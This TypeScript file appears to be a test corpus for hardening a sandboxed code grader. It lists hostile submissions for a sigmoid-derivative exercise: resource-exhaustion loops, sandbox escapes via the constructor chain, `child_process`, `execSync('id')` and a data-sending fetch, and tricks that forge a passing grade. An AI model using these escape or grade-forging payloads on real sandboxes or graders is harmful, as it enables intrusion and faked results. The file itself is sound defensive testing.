import type { Status } from '../../grader/results';

/**
 * The hostile-submission corpus: learner files for the sigmoid-prime exercise
 * (`export function sigmoidPrime(x: number): number`) that try to hang, exhaust, escape, forge or
 * lie. Each names the verdict it must end in. None may pass, none may hang the grader, and none may
 * touch the process that runs the pool.
 */
export interface HostileCase {
  name: string;
  code: string;
  expect: Exclude<Status, 'passed'>;
  /** what the grading's console must show, when that matters */
  console?: RegExp;
  /**
   * Another verdict that is also right for this case, and why: a race the engine decides, where
   * either limit may stop the code first (both end the grading within its limits).
   */
  alsoAccepted?: { status: Exclude<Status, 'passed'>; why: string };
}

/** True when `status` is the case's verdict, or the other verdict it accepts. */
export function verdictMatches(c: HostileCase, status: Status): boolean {
  return status === c.expect || status === c.alsoAccepted?.status;
}

/** σ′ written correctly, for cases that try to cheat around a right answer. */
const SIGMOID = 'const sig = (x: number) => (x >= 0 ? 1 / (1 + Math.exp(-x)) : Math.exp(x) / (1 + Math.exp(x)));';

export const TIME: HostileCase[] = [
  { name: 'endless loop at top level', code: 'while (true) {}\nexport function sigmoidPrime(x: number) { return 0; }', expect: 'timeout' },
  { name: 'endless loop in the call', code: 'export function sigmoidPrime(x: number): number { for (;;) {} }', expect: 'timeout' },
  {
    name: 'endless loop on large inputs only',
    code: `${SIGMOID}\nexport function sigmoidPrime(x: number) { while (Math.abs(x) > 100) {} const s = sig(x); return s * (1 - s); }`,
    expect: 'timeout',
  },
  { name: 'async function that never yields', code: 'export function sigmoidPrime(x: number) { (async () => { while (true) {} })(); return 0.25; }', expect: 'timeout' },
  { name: 'loop after an await', code: 'export function sigmoidPrime(x: number) { (async () => { await null; for (;;) {} })(); return 0.25; }', expect: 'timeout' },
  {
    name: 'runaway promise chain in the call',
    code: 'export function sigmoidPrime(x: number) { Promise.resolve().then(function f() { Promise.resolve().then(f); }); return 0.25; }',
    expect: 'timeout',
  },
  {
    name: 'runaway promise chain at top level',
    code: 'Promise.resolve().then(function f(): void { void Promise.resolve().then(f); });\nexport const sigmoidPrime = (x: number) => 0.25;',
    expect: 'timeout',
  },
  { name: 'endless loop through eval', code: "export function sigmoidPrime(x: number) { return eval('for (;;) {}'); }", expect: 'timeout' },
  { name: 'catastrophic regular expression', code: "export function sigmoidPrime(x: number) { return /^(a+)+$/.test('a'.repeat(40) + 'b') ? 1 : 0; }", expect: 'timeout' },
  { name: 'endless loop in an export getter', code: 'module.exports = { get sigmoidPrime() { while (true) {} } };', expect: 'timeout' },
  { name: 'endless console flood', code: "export function sigmoidPrime(x: number) { for (;;) console.log('flood'); }", expect: 'timeout' },
];

export const MEMORY: HostileCase[] = [
  { name: 'array that grows forever', code: 'export function sigmoidPrime(x: number) { const a: number[] = []; for (;;) a.push(x); }', expect: 'memory_limit' },
  { name: 'objects that pile up', code: 'export function sigmoidPrime(x: number) { const a: object[] = []; for (;;) a.push({ x, row: new Array(1000).fill(x) }); }', expect: 'memory_limit' },
  // A rope of doubled strings stays small: it ends at V8's maximum string length (a RangeError the
  // learner could also throw), not at the memory limit. Only the engine decides memory_limit (F9).
  { name: 'string doubled until it breaks', code: "export function sigmoidPrime(x: number) { let s = 'x'; for (;;) s += s; }", expect: 'runtime_error' },
  { name: "'x'.repeat(2**28) split into characters", code: "export function sigmoidPrime(x: number) { return 'x'.repeat(2 ** 28).split('').length; }", expect: 'memory_limit' },
  {
    name: 'array of 1e8 numbers',
    code: 'export function sigmoidPrime(x: number) { return new Array(1e8).fill(x).length; }',
    expect: 'memory_limit',
    // fill() is one built-in call V8 cannot interrupt: the child's CPU watch (1.5 × the call's limit)
    // and the heap limit race, and the parallel GC threads' CPU counts towards the first.
    alsoAccepted: { status: 'timeout', why: 'fill() of 1e8 elements is uninterruptible; the CPU limit may stop it before the heap limit does' },
  },
  { name: 'one huge typed array', code: 'export function sigmoidPrime(x: number) { return new Float64Array(2 ** 27)[0]; }', expect: 'memory_limit' },
  { name: 'typed arrays that pile up', code: 'export function sigmoidPrime(x: number) { const a = []; for (;;) a.push(new Float64Array(1 << 20)); }', expect: 'memory_limit' },
  { name: 'Map that grows forever', code: 'export function sigmoidPrime(x: number) { const m = new Map(); for (let i = 0; ; i++) m.set(i, [i]); }', expect: 'memory_limit' },
  { name: 'memory bomb while loading', code: 'const keep: number[][] = [];\nfor (let i = 0; ; i++) keep.push(new Array(100000).fill(i));\nexport const sigmoidPrime = (x: number) => 0;', expect: 'memory_limit' },
];

export const ESCAPE: HostileCase[] = [
  { name: 'deep recursion', code: 'export function sigmoidPrime(x: number): number { return sigmoidPrime(x + 1) * 0.5; }', expect: 'runtime_error' },
  { name: 'deep recursion while loading', code: 'function down(n: number): number { return down(n + 1) + 1; }\ndown(0);\nexport const sigmoidPrime = (x: number) => 0;', expect: 'runtime_error' },
  { name: 'process through the constructor chain', code: "export function sigmoidPrime(this: any, x: number) { return this.constructor.constructor('return process')().exit(0); }", expect: 'runtime_error' },
  { name: 'global object through Function', code: "export function sigmoidPrime(x: number) { return Function('return this')().process.mainModule.require('fs'); }", expect: 'runtime_error' },
  { name: 'require through the Function constructor', code: "export function sigmoidPrime(x: number) { return (() => 0).constructor('return require')()('child_process'); }", expect: 'runtime_error' },
  { name: 'Error.prepareStackTrace hook', code: "Error.prepareStackTrace = (_e, frames) => frames.map((f: any) => f.getFunction());\nexport function sigmoidPrime(x: number) { const e: any = new Error('x'); return e.stack[1](); }", expect: 'runtime_error' },
  { name: 'Error.captureStackTrace on a forged object', code: 'export function sigmoidPrime(x: number) { const o: any = {}; Error.captureStackTrace(o); return o.stack; }', expect: 'failed' },
  { name: 'Error.stackTraceLimit = 0 to hide lines', code: '(Error as any).stackTraceLimit = 0;\nexport const sigmoidPrime = (x: number) => 0;', expect: 'runtime_error' },
  { name: 'require', code: "const fs = require('fs');\nexport const sigmoidPrime = (x: number) => fs;", expect: 'runtime_error' },
  { name: 'static import', code: "import { execSync } from 'node:child_process';\nexport const sigmoidPrime = (x: number) => execSync('id');", expect: 'runtime_error' },
  { name: 'dynamic import()', code: "export function sigmoidPrime(x: number) { import('node:fs').then((fs) => fs.writeFileSync('/tmp/pwned', 'x')); return 0.25; }", expect: 'runtime_error' },
  { name: 'top-level await import', code: "const fs = await import('node:fs');\nexport const sigmoidPrime = (x: number) => 0;", expect: 'compile_error' },
  { name: 'fetch to the network', code: "export function sigmoidPrime(x: number) { fetch('http://example.com/?x=' + x); return 0.25; }", expect: 'runtime_error' },
  { name: 'setTimeout', code: 'export function sigmoidPrime(x: number) { setTimeout(() => {}, 0); return 0.25; }', expect: 'runtime_error' },
  { name: 'setImmediate', code: 'export function sigmoidPrime(x: number) { (globalThis as any).setImmediate(() => {}); return 0.25; }', expect: 'runtime_error' },
  { name: 'WebAssembly', code: 'export function sigmoidPrime(x: number) { return WebAssembly.validate(new Uint8Array([0])) ? 1 : 0; }', expect: 'runtime_error' },
  { name: 'Atomics.wait on shared memory', code: 'export function sigmoidPrime(x: number) { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return 0; }', expect: 'runtime_error' },
  { name: 'process.exit', code: 'process.exit(0);\nexport const sigmoidPrime = (x: number) => 0.25;', expect: 'runtime_error' },
  { name: 'syntax error', code: 'export function sigmoidPrime(x: number) {\n  return x +;\n}', expect: 'compile_error' },
  { name: 'source over the size limit', code: `// ${'x'.repeat(70 * 1024)}\nexport const sigmoidPrime = (x: number) => 0;`, expect: 'compile_error' },
];

export const FORGERY: HostileCase[] = [
  {
    name: 'console output that looks like a passing result',
    code: `export function sigmoidPrime(x: number) { console.log(JSON.stringify({ type: 'result', id: 1, result: { status: 'passed', score: 1 } })); console.log('{"ok":1,"value":0.25,"after":0}'); return -1; }`,
    expect: 'failed',
    console: /"status":"passed"/,
  },
  { name: 'error message that looks like a result', code: `export function sigmoidPrime(x: number) { throw new Error('{"ok":1,"value":0.25}'); }`, expect: 'runtime_error' },
  { name: 'JSON.stringify replaced', code: 'JSON.stringify = () => \'{"ok":1,"value":0.25,"after":0}\';\nexport const sigmoidPrime = (x: number) => -1;', expect: 'failed' },
  { name: 'JSON.parse replaced', code: 'JSON.parse = () => 0.25;\nexport const sigmoidPrime = (x: number) => -1;', expect: 'failed' },
  { name: 'Math.abs and Math.max replaced', code: 'Math.abs = () => 0;\nMath.max = () => 0;\nexport const sigmoidPrime = (x: number) => -1;', expect: 'failed' },
  { name: 'Array.prototype.map and push replaced', code: 'Array.prototype.map = function () { return [0.25]; } as any;\nArray.prototype.push = () => 0;\nexport const sigmoidPrime = (x: number) => -1;', expect: 'failed' },
  { name: 'Object.prototype.toJSON added', code: '(Object.prototype as any).toJSON = () => 0.25;\nexport const sigmoidPrime = (x: number) => ({ value: -1 });', expect: 'failed' },
  { name: 'Number.prototype.valueOf and toString replaced', code: "Number.prototype.valueOf = () => 0.25;\nNumber.prototype.toString = () => '0.25';\nexport const sigmoidPrime = (x: number) => -1;", expect: 'failed' },
  { name: 'Object.keys and getOwnPropertyDescriptor replaced', code: "(Object as any).keys = () => [];\n(Object as any).getOwnPropertyDescriptor = () => ({ value: 0.25 });\nexport const sigmoidPrime = (x: number) => [-1];", expect: 'failed' },
  { name: 'Reflect.apply replaced', code: '(Reflect as any).apply = () => 0.25;\nexport const sigmoidPrime = (x: number) => -1;', expect: 'failed' },
  { name: 'array index setter on Array.prototype', code: "Object.defineProperty(Array.prototype, '0', { set() {}, get() { return 0.25; } });\nexport const sigmoidPrime = (x: number) => [];", expect: 'failed' },
  { name: "tag key '$' on Object.prototype", code: "Object.defineProperty(Object.prototype, '$', { get: () => 'n' });\nexport const sigmoidPrime = (x: number) => ({ v: 'NaN' });", expect: 'failed' },
];

export const LIES: HostileCase[] = [
  { name: 'getter that changes on each read', code: `${SIGMOID}\nlet n = 0;\nexport const sigmoidPrime = (x: number) => ({ get value() { return n++ % 2 ? sig(x) : -1; } });`, expect: 'failed' },
  { name: 'Proxy that pretends to be a number', code: 'export const sigmoidPrime = (x: number) => new Proxy({}, { get: () => 0.25, getPrototypeOf: () => Number.prototype });', expect: 'failed' },
  { name: 'Proxy whose traps throw', code: "export const sigmoidPrime = (x: number) => new Proxy({}, { ownKeys() { throw new Error('no'); }, getPrototypeOf() { return Object.prototype; } });", expect: 'runtime_error' },
  { name: 'object with toJSON giving the right answer', code: `${SIGMOID}\nexport const sigmoidPrime = (x: number) => ({ toJSON: () => sig(x) * (1 - sig(x)) });`, expect: 'failed' },
  { name: 'object with valueOf giving the right answer', code: `${SIGMOID}\nexport const sigmoidPrime = (x: number) => ({ valueOf: () => sig(x) * (1 - sig(x)) });`, expect: 'failed' },
  { name: 'boxed Number', code: `${SIGMOID}\nexport const sigmoidPrime = (x: number) => new Number(sig(x) * (1 - sig(x)));`, expect: 'failed' },
  { name: 'huge array returned', code: 'export const sigmoidPrime = (x: number) => new Array(2e6).fill(0.25);', expect: 'failed' },
  { name: 'huge string returned', code: "export const sigmoidPrime = (x: number) => 'x'.repeat(2 ** 28);", expect: 'failed' },
  { name: 'circular value returned', code: 'export const sigmoidPrime = (x: number) => { const a: any[] = []; a.push(a); return a; };', expect: 'failed' },
  { name: 'deeply nested value returned', code: 'export const sigmoidPrime = (x: number) => { let v: any = 0.25; for (let i = 0; i < 1e5; i++) v = [v]; return v; };', expect: 'failed' },
  { name: 'Promise of the right answer', code: `${SIGMOID}\nexport async function sigmoidPrime(x: number) { return sig(x) * (1 - sig(x)); }`, expect: 'failed' },
  { name: 'bigint and symbol', code: "export const sigmoidPrime = (x: number) => (x > 0 ? 1n : Symbol('0.25'));", expect: 'failed' },
  { name: 'export that is not a function', code: 'export const sigmoidPrime = 0.25;', expect: 'runtime_error' },
  { name: 'module.exports as a throwing Proxy', code: "module.exports = new Proxy({}, { get() { throw new Error('trap'); } });", expect: 'runtime_error' },
  { name: 'throw 42', code: 'export function sigmoidPrime(x: number) { throw 42; }', expect: 'runtime_error' },
  { name: 'throw null', code: 'export function sigmoidPrime(x: number) { throw null; }', expect: 'runtime_error' },
  { name: 'thrown object whose message getter never returns (it is not run)', code: 'export function sigmoidPrime(x: number) { throw { get message() { for (;;) {} } }; }', expect: 'runtime_error' },
  { name: 'throw a Proxy', code: 'export function sigmoidPrime(x: number) { throw new Proxy({}, { get() { throw new Error("again"); }, getPrototypeOf() { throw 1; } }); }', expect: 'runtime_error' },
  { name: 'bounded console flood', code: "export function sigmoidPrime(x: number) { for (let i = 0; i < 1e5; i++) console.log('line', i, 'of noise'); return -1; }", expect: 'failed', console: /^line 0 of noise\n/ },
];

export const ALL: HostileCase[] = [...TIME, ...MEMORY, ...ESCAPE, ...FORGERY, ...LIES];
